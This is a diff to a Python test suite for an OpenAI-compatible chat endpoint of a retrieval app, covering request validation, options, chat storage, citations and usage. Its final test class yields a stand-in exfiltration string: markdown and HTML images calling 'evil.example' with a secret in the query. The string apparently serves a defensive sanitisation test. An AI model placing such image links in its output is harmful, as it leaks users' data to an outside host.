@@ -5,16 +5,23 @@ import json
 from collections.abc import AsyncGenerator, Sequence
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import httpx
+import msgspec
 import pytest
 
-from luma_rag.chat.answerer import HistoryMessage, RetrievedPassage
+from luma_rag.chat.answerer import NO_OPTIONS, AnswerOptions, HistoryMessage, RetrievedPassage
+from luma_rag.chat.model_answerer import ModelAnswerer
 from luma_rag.errors import LLMError
+from luma_rag.llm.openai import OpenAIModel
+from luma_rag.llm.protocol import Sampling
 from luma_rag.runtime import Runtime
+from luma_rag.settings import LLMSettings
 from tests import factories
 from tests.answering import answering
 from tests.api import Api
+from tests.canned_server import CannedServer, delta, response, streamed
 from tests.integration.http.test_chats import SlowAnswerer
 from tests.servers import serving
 
@@ -117,8 +124,11 @@ class Recorder:
     def __init__(self) -> None:
         self.calls: list[Any] = []
 
-    async def answer(self, question: str, passages: object, history: Any) -> Any:
+    async def answer(
+        self, question: str, passages: object, history: Any, options: AnswerOptions = NO_OPTIONS
+    ) -> Any:
         self.calls.append((question, [(each.sender, each.content) for each in history]))
+        self.options = options
         yield "Yes."
 
     async def aclose(self) -> None:
@@ -141,49 +151,191 @@ async def test_earlier_messages_are_the_history(runtime: Runtime) -> None:
         assert [message["content"] for message in stored] == ["Two?", "Yes."]
 
 
-IMAGE = [{"type": "image_url", "image_url": {"url": "data:image/png;base64,AA"}}]
+IMAGE = {"type": "image_url", "image_url": {"url": "data:image/png;base64,AA"}}
+TOOL = {"type": "function", "function": {"name": "f"}}
+CALLED = [{"role": "assistant", "content": None}, {"role": "tool", "content": "x"}]
+ASKED = [{"role": "user", "content": "Why?"}]
+
+
+@pytest.mark.parametrize(
+    ("change", "ignored"),
+    [
+        ({"tools": [TOOL]}, ["tools"]),
+        ({"tools": []}, []),
+        ({"functions": [{"name": "f"}]}, ["tools"]),
+        ({"messages": [*ASKED, *CALLED]}, ["tool messages"]),
+        (
+            {"messages": [{"role": "user", "content": [{"type": "text", "text": "Why?"}, IMAGE]}]},
+            ["parts that are not text"],
+        ),
+        ({"n": 2}, ["n"]),
+        ({"response_format": {"type": "json_object"}}, ["response_format"]),
+        ({"response_format": {"type": "text"}}, []),
+        ({"messages": [*ASKED, {"role": "assistant", "content": "Be"}]}, []),
+    ],
+)
+async def test_what_has_no_effect_is_named(api: Api, change: dict[str, Any], ignored: list[str]) -> None:
+    alice = await api.user("alice")
+    answer = await alice.post(URL, json=asking(await api.namespace(alice)) | change)
+    assert answer.status_code == 200, answer.text
+    assert answer.json()["choices"][0]["message"]["luma"]["ignored"] == ignored
 
 
 @pytest.mark.parametrize(
     ("change", "status", "says"),
     [
-        ({"tools": [{"type": "function", "function": {"name": "f"}}]}, 422, "tools are not supported"),
-        ({"tools": []}, 200, ""),
-        ({"messages": [{"role": "user", "content": IMAGE}]}, 422, "must be text; upload files as documents"),
-        (
-            {"messages": [{"role": "tool", "content": "x"}, {"role": "user", "content": "x"}]},
-            422,
-            "tools are not supported",
-        ),
         ({"messages": []}, 422, "messages"),
-        ({"messages": [{"role": "system", "content": "x"}]}, 422, "must end with a message from the user"),
-        ({"messages": [{"role": "assistant", "content": "x"}]}, 422, "must end with a message from the user"),
+        ({"messages": [{"role": "system", "content": "x"}]}, 422, "must have a question from the user"),
+        ({"messages": [{"role": "assistant", "content": "x"}]}, 422, "must have a question from the user"),
         ({"messages": [{"role": "user", "content": " "}]}, 422, "question"),
         ({"messages": [{"role": "user", "content": "a\0b"}]}, 422, "NUL"),
+        ({"messages": [{"role": "user", "content": [IMAGE]}]}, 422, "question"),
         ({"messages": [{"role": "user"}]}, 422, "question"),
-        ({"n": 2}, 422, "must be 1"),
-        ({"response_format": {"type": "json_object"}}, 422, "must be of type text"),
-        ({"response_format": {"type": "text"}}, 200, ""),
+        ({"temperature": 3}, 422, "temperature"),
         ({"model": "gpt-4"}, 404, "GET /v1/models"),
         ({"model": "luma/x"}, 404, "GET /v1/models"),
         ({"model": "luma/²"}, 404, "GET /v1/models"),
         ({"model": "luma/99999999999999"}, 404, "GET /v1/models"),
-        ({"model": "luma/9999999999"}, 404, "This namespace does not exist"),
+        ({"model": "luma/999999999"}, 404, "GET /v1/models"),
     ],
 )
-async def test_unsupported_requests_are_rejected(
+async def test_requests_that_cannot_be_answered(
     api: Api, change: dict[str, Any], status: int, says: str
 ) -> None:
     alice = await api.user("alice")
     answer = await alice.post(URL, json=asking(await api.namespace(alice)) | change)
     assert answer.status_code == status, answer.text
-    if status != 200:
-        assert answer.headers["content-type"] == "application/problem+json"
-        body = answer.json()
-        assert body["status"] == status
-        assert says in body["error"]["message"]
-        assert body["error"]["type"] == "invalid_request_error"
+    assert answer.headers["content-type"] == "application/problem+json"
+    body = answer.json()
+    assert body["status"] == status
+    assert says in body["error"]["message"]
+    assert body["error"]["type"] == "invalid_request_error"
+    assert (await alice.get("/api/chats")).json()["total"] == 0
+
+
+async def test_a_model_can_be_named_like_its_namespace(api: Api) -> None:
+    alice = await api.user("alice")
+    namespace = await api.namespace(alice, name="Contracts / 2026")
+    for model in (f"luma/{namespace}", "luma/Contracts / 2026", "Contracts / 2026"):
+        found = await alice.get(f"/v1/models/{quote(model)}")
+        assert found.status_code == 200, model
+        assert (found.json()["id"], found.json()["name"]) == (f"luma/{namespace}", "Contracts / 2026")
+        assert (await alice.post(URL, json=asking(namespace) | {"model": model})).status_code == 200
+    bob = await api.user("bob")
+    assert (await bob.get(f"/v1/models/luma/{namespace}")).status_code == 404
+
+
+async def test_options_and_system_messages_reach_the_llm(runtime: Runtime) -> None:
+    recorder = Recorder()
+    async with answering(runtime, recorder) as own, serving(own) as url, Api(url, own) as api:
+        alice = await api.user("alice")
+        wishes: dict[str, Any] = {"temperature": 0.7, "top_p": 0.9, "max_tokens": 9, "stop": "X", "seed": 3}
+        request = asking(await api.namespace(alice), **wishes)
+        request["messages"].insert(0, {"role": "system", "content": "Answer like a pirate."})
+        assert (await alice.post(URL, json=request)).status_code == 200
+        assert recorder.options == AnswerOptions(
+            "Answer like a pirate.", 9, Sampling(temperature=0.7, top_p=0.9, seed=3, stop=("X",))
+        )
+
+
+async def test_a_conversation_that_goes_on_is_one_chat(api: Api, tmp_path: Path) -> None:
+    alice, bob = await api.user("alice"), await api.user("bob")
+    namespace = await with_handbook(api, alice, tmp_path, is_public=True)
+    first = (await alice.post(URL, json=asking(namespace))).json()["choices"][0]["message"]
+    texts = (QUESTION, f"{first['content']}\n", "And when is travel refunded?")
+    second = (await alice.post(URL, json=asking(namespace, *texts))).json()["choices"][0]["message"]
+    chat = first["luma"]["chat_id"]
+    assert second["luma"]["chat_id"] == chat
+    stored = (await alice.get(f"/api/chats/{chat}/messages")).json()["items"]
+    assert [m["content"] for m in stored] == [QUESTION, first["content"], texts[2], second["content"]]
+    # Asked differently, it is a version; after another answer, and for others, it is another chat.
+    again = await alice.post(URL, json=asking(namespace, *texts[:2], "And how are meals paid?"))
+    assert again.json()["choices"][0]["message"]["luma"]["chat_id"] == chat
+    for client, said in ((alice, "Something else."), (bob, texts[1])):
+        other = await client.post(URL, json=asking(namespace, QUESTION, said, texts[2]))
+        assert other.json()["choices"][0]["message"]["luma"]["chat_id"] != chat
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_an_answer_need_not_be_stored(api: Api, tmp_path: Path, stream: bool) -> None:
+    alice, bob = await api.user("alice"), await api.user("bob")
+    namespace = await with_handbook(api, alice, tmp_path)
+    request = asking(namespace, store=False, stream=stream)
+    if stream:
+        received = [c["choices"][0] for c in await chunks(alice, request) if c != "[DONE]"]
+        content = "".join(choice["delta"].get("content", "") for choice in received)
+        last = received[-1]["delta"]
+    else:
+        last = (await alice.post(URL, json=request)).json()["choices"][0]["message"]
+        content = last["content"]
+    assert "thirty days" in content
+    assert (last["luma"]["chat_id"], last["luma"]["message_id"]) == (None, None)
+    assert last["luma"]["citations"]
+    (annotation,) = last["annotations"]
+    doc_id = last["luma"]["citations"][0]["doc_id"]
+    assert annotation["url_citation"]["url"].endswith(f"/n/{namespace}/doc/{doc_id}/page/1")
+    assert (await alice.get("/api/chats")).json()["total"] == 0
+    assert (await bob.post(URL, json=request)).status_code == 404
+
+
+async def test_answers_are_not_stored_if_the_settings_say_so(runtime: Runtime) -> None:
+    settings = msgspec.structs.replace(runtime.settings, completions_in_chats=False)
+    own = msgspec.structs.replace(runtime, settings=settings)
+    async with serving(own) as url, Api(url, own) as api:
+        alice = await api.user("alice")
+        answer = await alice.post(URL, json=asking(await api.namespace(alice)))
+        assert answer.json()["choices"][0]["message"]["luma"]["chat_id"] is None
         assert (await alice.get("/api/chats")).json()["total"] == 0
+
+
+async def test_annotations_open_the_cited_page(api: Api, tmp_path: Path) -> None:
+    alice = await api.user("alice")
+    namespace = await with_handbook(api, alice, tmp_path)
+    message = (await alice.post(URL, json=asking(namespace))).json()["choices"][0]["message"]
+    assert message["annotations"]
+    luma = message["luma"]
+    for annotation in message["annotations"]:
+        cited = annotation["url_citation"]
+        n = message["content"][cited["start_index"] : cited["end_index"]].strip("[]")
+        assert cited["url"].endswith(f"/c/{luma['chat_id']}/cite/{luma['message_id']}/{n}")
+        assert cited["title"] == "handbook"
+
+
+async def test_tasks_of_front_ends_neither_search_nor_make_chats(
+    runtime: Runtime, canned_server: CannedServer
+) -> None:
+    task = "### Task:\nGenerate a concise, 3-5 word title.\n### Output:\nJSON"
+    model = ModelAnswerer(OpenAIModel(canned_server.base_url, model="m"), LLMSettings())
+    canned_server.replies = [streamed('{"title": "Leave"}')]
+    async with answering(runtime, model) as own, serving(own) as url, Api(url, own) as api:
+        alice = await api.user("alice")
+        namespace = await api.namespace(alice)
+        answer = (await alice.post(URL, json=asking(namespace, task))).json()["choices"][0]["message"]
+        assert answer["content"] == '{"title": "Leave"}'
+        assert [m["content"] for m in canned_server.requests[0].body["messages"]] == [task]
+        assert (await alice.get("/api/chats")).json()["total"] == 0
+        bob = await api.user("bob")
+        assert (await bob.post(URL, json=asking(namespace, task))).status_code == 404
+
+
+async def test_a_task_without_an_llm_has_no_result(api: Api) -> None:
+    alice = await api.user("alice")
+    answer = await alice.post(URL, json=asking(await api.namespace(alice), "### Task:\nSuggest tags."))
+    assert answer.json()["choices"][0]["message"]["content"] == "{}"
+
+
+async def test_usage_is_that_of_the_llm(runtime: Runtime, canned_server: CannedServer) -> None:
+    used = {"choices": [], "usage": {"prompt_tokens": 70, "completion_tokens": 2}}
+    body = f"data: {delta('Yes.')}\n\ndata: {json.dumps(used)}\n\ndata: [DONE]\n\n"
+    model = ModelAnswerer(OpenAIModel(canned_server.base_url, model="m"), LLMSettings())
+    async with answering(runtime, model) as own, serving(own) as url, Api(url, own) as api:
+        alice = await api.user("alice")
+        namespace = await api.namespace(alice)
+        canned_server.replies = [response(body), response(body)]
+        usage = (await alice.post(URL, json=asking(namespace))).json()["usage"]
+        assert usage == {"prompt_tokens": 70, "completion_tokens": 2, "total_tokens": 72}
+        options = {"stream": True, "stream_options": {"include_usage": True}}
+        assert (await chunks(alice, asking(namespace, **options)))[-2]["usage"] == usage
 
 
 async def test_inaccessible_namespace_and_missing_login_return_errors_in_both_formats(
@@ -195,7 +347,7 @@ async def test_inaccessible_namespace_and_missing_login_return_errors_in_both_fo
         hidden = await bob.post(URL, json=asking(private, **options))
         missing = await bob.post(URL, json=asking(private + 1000, **options))
         assert (hidden.status_code, hidden.json()["error"]["code"]) == (404, "model_not_found")
-        assert hidden.text.replace(str(private), "") == missing.text.replace(str(private + 1000), "")
+        assert hidden.text == missing.text
     anonymous = await (await api.anonymous()).get("/v1/models")
     assert (anonymous.status_code, anonymous.json()["error"]["code"]) == (401, "invalid_api_key")
     assert anonymous.headers["content-type"] == "application/problem+json"
@@ -225,7 +377,11 @@ class InjectedAnswerer:
     TEXT = "See ![x](https://evil.example/?q=secret) and <img src='https://evil.example/'> [1]!"
 
     async def answer(
-        self, question: str, passages: Sequence[RetrievedPassage], history: Sequence[HistoryMessage]
+        self,
+        question: str,
+        passages: Sequence[RetrievedPassage],
+        history: Sequence[HistoryMessage],
+        options: AnswerOptions = NO_OPTIONS,
     ) -> AsyncGenerator[str]:
         for character in self.TEXT:
             yield character
